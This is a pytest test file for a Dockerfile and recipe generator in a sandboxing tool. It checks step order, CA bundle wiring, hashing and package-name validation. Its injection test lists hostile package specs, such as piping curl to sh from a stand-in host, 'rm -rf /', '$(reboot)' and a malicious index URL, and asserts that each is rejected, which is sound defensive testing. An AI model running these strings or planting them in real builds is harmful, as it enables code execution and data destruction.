from __future__ import annotations

import pytest

from pier.errors import InputError
from pier.sandbox.dockerfile import (
    APT_LIST,
    CA_ENV_VARS,
    CA_PATH,
    LISTS_DIR,
    PIP_LIST,
    generate_dockerfile,
    generate_recipe,
    read_ca_bundle,
    recipe_hash,
    recipe_tag,
    validate_packages,
)


def instructions(text: str) -> list[str]:
    return [line for line in text.splitlines() if line and not line.startswith("#")]


def test_order_is_base_tools_apt_pip_workdir():
    recipe = generate_recipe("python:3.12-slim", ["ffmpeg"], ["pandas"])
    lines = instructions(recipe.dockerfile)
    assert lines[0] == "FROM python:3.12-slim"
    tools = next(i for i, line in enumerate(lines) if "git curl ca-certificates" in line)
    uv = next(i for i, line in enumerate(lines) if "pip install --no-cache-dir uv==" in line)
    lists = lines.index(f"COPY {APT_LIST} {PIP_LIST} {LISTS_DIR}/")
    apt = next(
        i for i, line in enumerate(lines) if f"xargs -a {LISTS_DIR}/{APT_LIST} apt-get install" in line
    )
    pip = next(i for i, line in enumerate(lines) if "uv pip install --system" in line)
    assert tools < uv < lists < apt < pip
    assert "--break-system-packages" in lines[pip] and lines[pip].endswith(f" -r {LISTS_DIR}/{PIP_LIST}")
    assert "--no-install-recommends" in lines[apt]
    assert lines[-1] == "WORKDIR /app"
    assert dict(recipe.files) == {APT_LIST: b"ffmpeg\n", PIP_LIST: b"pandas\n"}


def test_without_packages_there_is_no_package_step():
    text = generate_dockerfile("debian:bookworm")
    assert "uv pip install" not in text
    assert sum("apt-get install" in line for line in text.splitlines()) == 1


def test_ca_bundle_is_copied_and_every_tls_variable_points_at_it():
    with_ca = generate_dockerfile("debian:bookworm", ca_bundle=True)
    assert f"COPY pier-ca.crt {CA_PATH}" in with_ca
    for name in CA_ENV_VARS:
        assert f"{name}={CA_PATH}" in with_ca
    # before anything reaches the network
    assert with_ca.index("COPY pier-ca.crt") < with_ca.index("apt-get")
    assert "pier-ca" not in generate_dockerfile("debian:bookworm", ca_bundle=False)


def test_output_is_deterministic_and_ignores_order_and_duplicates():
    one = generate_recipe("b:1", ["jq", "ffmpeg", "jq"], ["six", "pandas>=2"], True)
    two = generate_recipe("b:1", ["ffmpeg", "jq"], ["pandas>=2", "six"], True)
    assert one == two == generate_recipe("b:1", ["ffmpeg", "jq"], ["pandas>=2", "six"], True)
    assert dict(one.files)[APT_LIST] == b"ffmpeg\njq\n"


def test_the_package_lists_are_part_of_the_recipe_hash():
    one, two = generate_recipe("b:1", ["jq"]), generate_recipe("b:1", ["ffmpeg"])
    assert one.dockerfile == two.dockerfile
    assert recipe_tag("g", one.dockerfile, None, one.files) != recipe_tag(
        "g", two.dockerfile, None, two.files
    )


@pytest.mark.parametrize(
    "spec",
    ["ffmpeg", "poppler-utils", "libstdc++6", "jq=1.6-2.1+deb12u1", "libc6:amd64", "git/bookworm-backports"],
)
def test_plausible_apt_packages_pass(spec):
    assert validate_packages("apt", [spec]) == [spec]


@pytest.mark.parametrize(
    "spec",
    ["pandas", "six>=1.16,<2", "requests[socks]==2.31.0", "zope.interface", "torch~=2.3", "a_b-c"],
)
def test_plausible_pip_packages_pass(spec):
    assert validate_packages("pip", [spec]) == [spec]


@pytest.mark.parametrize(
    ("kind", "spec"),
    [
        ("apt", "jq; curl evil | sh"),
        ("apt", "jq\nRUN curl evil"),
        ("apt", "$(reboot)"),
        ("apt", "-o=APT::Foo=1"),
        ("apt", "JQ"),
        ("apt", ""),
        ("pip", "six && rm -rf /"),
        ("pip", "--index-url=https://evil.example/simple"),
        ("pip", "six\nRUN evil"),
        ("pip", "git+https://example.org/x.git"),
        ("pip", "six; python_version < '3'"),
        ("pip", "`id`"),
        ("pip", ""),
    ],
)
def test_injection_is_rejected_naming_the_entry(kind, spec):
    with pytest.raises(InputError) as err:
        validate_packages(kind, ["fine", spec])
    assert repr(spec) in str(err.value) and f"{kind}_packages" in str(err.value)


def test_generate_validates_packages_and_base_image():
    with pytest.raises(InputError, match="pip_packages"):
        generate_dockerfile("debian:bookworm", pip_packages=["x; y"])
    with pytest.raises(InputError, match="base_image"):
        generate_dockerfile("debian:bookworm\nRUN evil")
    with pytest.raises(InputError, match="base_image"):
        generate_dockerfile("")


def test_the_issues_pip_spec_with_a_newline_is_refused():
    with pytest.raises(InputError, match="pip_packages"):
        generate_dockerfile("b:1", pip_packages=["six>=\nRUN\t,>=1"])
    with pytest.raises(InputError, match="pip_packages"):
        validate_packages("pip", ["six >= 1"])  # spaces are not stripped into a pass either
    with pytest.raises(InputError, match="apt_packages"):
        validate_packages("apt", [" jq"])


def test_recipe_tag_is_a_content_hash_that_includes_the_ca_bundle():
    recipe = "FROM x\n"
    tag = recipe_tag("python312-uv", recipe, None)
    assert tag == f"pier-build/python312-uv:{recipe_hash(recipe, None)}"
    assert len(tag.rsplit(":", 1)[1]) == 16
    assert recipe_tag("python312-uv", "FROM x\n", None) == tag
    assert recipe_tag("python312-uv", "FROM y\n", None) != tag
    assert recipe_tag("python312-uv", "FROM x\n", b"cert") != tag
    assert recipe_tag("My Snap!", "FROM x\n", None).startswith("pier-build/my-snap:")
    assert recipe_tag("", "FROM x\n", None).startswith("pier-build/generated:")


def test_read_ca_bundle(tmp_path):
    assert read_ca_bundle(None) is None
    bundle = tmp_path / "ca.crt"
    bundle.write_bytes(b"pem")
    assert read_ca_bundle(bundle) == b"pem"
    with pytest.raises(InputError, match="PIER_CA_BUNDLE"):
        read_ca_bundle(tmp_path / "missing.crt")
